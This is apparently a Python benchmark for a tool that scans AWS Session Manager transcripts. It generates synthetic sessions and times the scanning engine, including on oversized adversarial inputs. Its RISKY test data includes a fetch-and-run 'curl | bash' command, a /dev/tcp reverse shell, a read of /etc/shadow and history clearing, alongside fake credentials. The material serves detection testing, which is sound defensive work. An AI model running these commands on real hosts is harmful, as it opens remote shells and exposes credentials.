"""Engine throughput against the floor of merely reading and JSON-parsing the same events.

    make bench            (or: .venv/bin/python benchmarks/bench_engine.py [--sessions N] [--repeat R])

The corpus is generated (seeded) to look like real Session Manager streams: prompts of several shells, ordinary
administration with its output, a sudo -i prompt change, backspace editing and OSC title escapes, secrets typed
as arguments and printed in output, multi-line heredocs, and some risky commands. Both measurements take the best
of R runs over the same JSON Lines file in one process, so their ratio is meaningful on a noisy shared machine.
The corpus is written once to a temporary file, and both the floor and the engine read it from disk on every run:
"reading and JSON-parsing the same events" is the floor, and the engine pays the same reading.

Then single hostile lines of 1 MiB and 2 MiB, each built to hurt one stage (backspaces, escape sequences, quotes,
secret-like prefixes, chains, globbed command names), are pushed through the whole engine; the slowest of each
size is reported, and their ratio shows whether growth is linear (about 2.0) or worse, as does the steepest
2 MiB / 1 MiB ratio of any shape (the slowest shape is not always the one that grows fastest).

Then what users pay for besides the engine (issue #18), each from its own module: the AWS calls of a quiet and of an
alerting delivery (bench_delivery.py), the alert function's cold start against a bare `import boto3`
(bench_init.py), and `sessionguard scan --jobs N` against `--jobs 1` (bench_scan.py). `--engine-only` skips them.

The last line printed is one JSON object.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from sessionguard.rules import RulePack
from sessionguard.session.engine import SessionEngine
from sessionguard.session.records import SessionEvent, parse_session_event

PROMPTS = ["sh-4.2$ ", "sh-5.2$ ", "[ssm-user@ip-10-0-1-23 ~]$ ", "ec2-user@ip-10-0-7-9:~$ ", "ip-10-0-3-4% "]
ROOT_PROMPT = "[root@ip-10-0-1-23 log]# "
ORDINARY = [
    (
        "ls -la",
        ["total 12", "drwx------ 3 ssm-user ssm-user  95 Nov 26 11:58 .", "-rw-r--r-- 1 ssm-user ssm-user 18 .bashrc"],
    ),
    (
        "systemctl status amazon-ssm-agent",
        ["● amazon-ssm-agent.service - amazon-ssm-agent", "   Active: active (running)"],
    ),
    (
        "tail -n 3 /var/log/messages",
        [f"Nov 26 12:00:{i:02d} ip-10-0-1-23 systemd[1]: Started Session {i}." for i in range(3)],
    ),
    ("df -h", ["Filesystem      Size  Used Avail Use% Mounted on", "/dev/nvme0n1p1  8.0G  2.1G  6.0G  26% /"]),
    (
        "sudo yum update -y",
        ["Loaded plugins: extras_suggestions, langpacks, priorities", "No packages marked for update"],
    ),
    ("ps aux | grep nginx", ["root      1234  0.0  0.1  12345  2345 ?  Ss 11:58 0:00 nginx: master process"]),
    ("cat /etc/os-release", ['NAME="Amazon Linux"', 'VERSION="2023"', 'ID="amzn"', 'PRETTY_NAME="Amazon Linux 2023"']),
    ("history | tail", [f"  {i}  ls -la" for i in range(5)]),
    ("journalctl -u nginx --no-pager | tail -n 2", ["Nov 26 11:57:41 ip-10-0-1-23 nginx[2741]: started"] * 2),
    ("chmod +x deploy.sh && ./deploy.sh", ["Deploying build 4f1c2e7d9a0b…", "done in 12.3s"]),
]
SECRETS = [
    ("mysql -u admin -pS3cr3tPassw0rd -h db.internal", ["ERROR 2003 (HY000): Can't connect to MySQL server"]),
    ("export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", []),
    ("curl -u deploy:hunter2hunter2 https://artifacts.internal/api", ['{"status":"ok"}']),
    (
        "cat .env",
        ["DATABASE_PASSWORD=correct-horse-battery", "API_TOKEN=ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"],
    ),
]
RISKY = [
    ("history -c", []),
    ("curl -s http://198.51.100.7/x.sh | bash", []),
    ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", []),
    ("cat /etc/shadow", ["root:*:19000:0:99999:7:::"]),
]
HEREDOC = (
    "cat > /tmp/app.conf <<EOF",
    ["> listen 8080", "> workers 4", "> EOF"],
)


def _line_with_rough_edges(rng: random.Random, prompt: str, command: str) -> str:
    roll = rng.random()
    if roll < 0.1 and len(command) > 4:  # a typo fixed with backspaces
        return prompt + command[:-2] + "xx\b\b" + command[-2:]
    if roll < 0.2 and prompt.startswith("["):  # bash sets the xterm title; the agent's stripper misses OSC
        return "\x1b]0;ssm-user@ip-10-0-1-23:~\x07" + prompt + command
    return prompt + command


def generate_corpus(sessions: int, seed: int = 7) -> list[str]:
    """JSON Lines of streamed session events, several commands per event, ~1 event per second per session."""
    rng = random.Random(seed)
    lines: list[str] = []
    for number in range(sessions):
        session_id = f"jane.roe-{number:017x}"
        prompt = rng.choice(PROMPTS)
        data: list[str] = []
        for step in range(40):
            pool = rng.choices([ORDINARY, SECRETS, RISKY, [HEREDOC]], weights=[85, 6, 4, 5])[0]
            command, output = rng.choice(pool)
            if step == 20:
                command, output = "sudo -i", []
            data.append(_line_with_rough_edges(rng, prompt, command))
            data.extend(output)
            if command == "sudo -i":
                prompt = ROOT_PROMPT
            if rng.random() < 0.5 or step == 39:
                lines.append(
                    json.dumps(
                        {
                            "eventVersion": "1.0",
                            "eventTime": f"2026-11-26T12:{step // 60:02d}:{step % 60:02d}Z",
                            "awsRegion": "eu-west-1",
                            "target": {"id": "i-0a1b2c3d4e5f60718"},
                            "userIdentity": {"arn": "arn:aws:sts::111122223333:assumed-role/PlatformAdmin/jane.roe"},
                            "runAsUser": "ssm-user",
                            "sessionId": session_id,
                            "sessionData": data,
                        }
                    )
                )
                data = []
    return lines


def best_of(repeat: int, run: Callable[[], Any]) -> float:
    best = float("inf")
    for _ in range(repeat):
        start = time.perf_counter()
        run()
        best = min(best, time.perf_counter() - start)
    return best


def read_lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()


def floor(path: Path) -> None:
    for line in read_lines(path):
        json.loads(line)


def engine_run(lines: list[str], pack: RulePack) -> None:
    """Parse every event and scan it, as `sessionguard scan` and the alert function do: runs of one session's
    events in batches (`SessionEngine.scan`)."""
    engine = SessionEngine(pack)
    for _ in engine.scan(map(parse_session_event, lines)):
        pass
    engine.finish()


def engine_file_run(path: Path, pack: RulePack) -> None:
    engine_run(read_lines(path), pack)


def hostile_lines(size: int) -> dict[str, str]:
    """One line of `size` characters per stage worth attacking."""
    return {
        "backspaces": "sh-4.2$ " + ("a\b" * (size // 2)),
        "escapes": "sh-4.2$ " + ("\x1b[1;32m\x1b]0;t\x07" * (size // 14)),
        "quotes": "sh-4.2$ echo " + ("'a'\"b\"\\c" * (size // 9)),
        "chains": "sh-4.2$ " + ("a|b;c&&d$(e)`f`" * (size // 15)),
        "secret-prefixes": "sh-4.2$ echo " + ("password=AKIA ghp_ eyJ --password -p " * (size // 36)),
        "no-spaces": "sh-4.2$ " + ("x" * size),
        "newlines-in-quote": "sh-4.2$ echo '" + ("a\n" * (size // 2)),
        "nested-substitutions": "sh-4.2$ " + ("$(" * (size // 2)),
        "nested-backticks": "sh-4.2$ " + ("`$(" * (size // 3)),
        "sh-c-nesting": "sh-4.2$ " + ("sh -c " * (size // 6)),
        "globbed-names": "sh-4.2$ " + (("*" * 40 + "q;") * (size // 42)),
        # Each argument a glob tried against every sensitive file (session/shell_paths.py), braces and brackets too.
        "globbed-arguments": "sh-4.2$ " + ("cat /*/*[a-z]*?[!x]* ~/.*/{a,b}*;" * (size // 34)),
        # Assignments whose values are all rejected, each running to the end of the line (masking/masker.py).
        "rejected-assignments": "sh-4.2$ " + ("aa_pw=a_pat=" * (size // 12)),
    }


def time_hostile(size: int, pack: RulePack) -> dict[str, float]:
    timings = {}
    for name, line in hostile_lines(size).items():
        event = SessionEvent(session_id="hostile", lines=(line,))

        def run(event: SessionEvent = event) -> None:
            engine = SessionEngine(pack)
            engine.scan_event(event)
            engine.finish()

        timings[name] = best_of(2, run)
    return timings


def stage_breakdown(lines: list[str], pack: RulePack) -> dict[str, float]:
    """Microseconds per event spent in each stage of one engine run, by timers put around the stages' entry points
    (each timer adds ~0.1 us per call, so the figures are approximate; "rest" is the engine's own glue)."""
    from sessionguard.masking import masker as masking  # noqa: PLC0415 - only for this diagnostic
    from sessionguard.session import engine, terminal  # noqa: PLC0415 - only for this diagnostic

    spent: dict[str, float] = {}
    originals: list[tuple[Any, str, Any]] = []

    def timed(owner: Any, name: str, stage: str) -> None:
        original = getattr(owner, name)
        originals.append((owner, name, original))

        def wrapper(*args: Any, **kwargs: Any) -> Any:
            start = time.perf_counter()
            try:
                return original(*args, **kwargs)
            finally:
                spent[stage] = spent.get(stage, 0.0) + time.perf_counter() - start

        setattr(owner, name, wrapper)

    timed(sys.modules[__name__], "parse_session_event", "parse (JSON + SessionEvent)")
    timed(terminal.SessionRebuilder, "feed_lines", "rebuild (terminal)")
    timed(masking.SecretMasker, "mask_lines", "mask (masking)")
    timed(pack, "match", "rules (normalize + match)")
    timed(engine, "_sanitized_lines", "transcript lines")
    timed(engine.SessionEngine, "_alerts", "alerts")
    try:
        start = time.perf_counter()
        engine_run(lines, pack)
        total = time.perf_counter() - start
    finally:
        for owner, name, original in reversed(originals):
            setattr(owner, name, original)
    breakdown = {stage: seconds / len(lines) * 1e6 for stage, seconds in spent.items()}
    breakdown["rest"] = total / len(lines) * 1e6 - sum(breakdown.values())
    return breakdown


def costs_beyond_the_engine(repeat: int) -> dict[str, Any]:
    """The delivery, cold start and parallel scan figures (see the module docstring); the calls per API go to
    stderr, the totals into the JSON line."""
    from bench_delivery import delivery_calls  # noqa: PLC0415 - siblings, imported only when asked for
    from bench_init import init_times  # noqa: PLC0415
    from bench_scan import measure_scan_speedup  # noqa: PLC0415

    calls = delivery_calls()
    for kind in ("quiet", "alert"):
        print(f"{kind} delivery AWS calls: {calls[f'{kind}_delivery_calls_by_api']}", file=sys.stderr)
    figures: dict[str, Any] = {
        "quiet_delivery_aws_calls": calls["quiet_delivery_aws_calls"],
        "alert_delivery_aws_calls": calls["alert_delivery_aws_calls"],
        "quiet_delivery_own_ms": calls["quiet_delivery_own_ms"],
    }
    figures |= init_times(repeat)
    figures |= measure_scan_speedup()
    return figures


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--sessions", type=int, default=300)
    parser.add_argument("--repeat", type=int, default=5)
    parser.add_argument("--stages", action="store_true", help="also print where an engine run spends its time")
    parser.add_argument("--engine-only", action="store_true", help="skip the delivery, cold start and scan figures")
    args = parser.parse_args(argv)

    pack = RulePack.load()
    lines = generate_corpus(args.sessions)
    if args.stages:
        engine_run(lines, pack)  # warm caches as the timed runs below are
        for stage, us in stage_breakdown(lines, pack).items():
            print(f"stage {stage:30s} {us:6.2f} us/event", file=sys.stderr)
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory) / "corpus.jsonl"
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        corpus_bytes = path.stat().st_size
        assert read_lines(path) == lines  # noqa: S101 - both sides must read exactly the generated events
        floor_s = best_of(args.repeat, lambda: floor(path))
        engine_s = best_of(args.repeat, lambda: engine_file_run(path, pack))
    one = time_hostile(1 << 20, pack)
    two = time_hostile(2 << 20, pack)
    worst_1 = max(one, key=one.__getitem__)
    worst_2 = max(two, key=two.__getitem__)
    growth = {name: two[name] / one[name] for name in one}
    steepest = max(growth, key=growth.__getitem__)
    for name in one:
        print(
            f"hostile {name:16s} 1 MiB {one[name] * 1000:8.1f} ms   2 MiB {two[name] * 1000:8.1f} ms", file=sys.stderr
        )
    result = {
        "events": len(lines),
        "corpus_mib": round(corpus_bytes / (1 << 20), 2),
        "floor_events_per_s": round(len(lines) / floor_s),
        "engine_events_per_s": round(len(lines) / engine_s),
        "engine_to_floor_ratio": round(engine_s / floor_s, 2),
        "engine_us_per_event": round(engine_s / len(lines) * 1e6, 2),
        "hostile_1mib_s": round(one[worst_1], 4),
        "hostile_1mib_worst": worst_1,
        "hostile_2mib_s": round(two[worst_2], 4),
        "hostile_2mib_worst": worst_2,
        "hostile_growth_2mib_over_1mib": round(two[worst_2] / one[worst_1], 2),
        "hostile_growth_steepest": round(growth[steepest], 2),
        "hostile_growth_steepest_shape": steepest,
    }
    if not args.engine_only:
        result |= costs_beyond_the_engine(args.repeat)
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
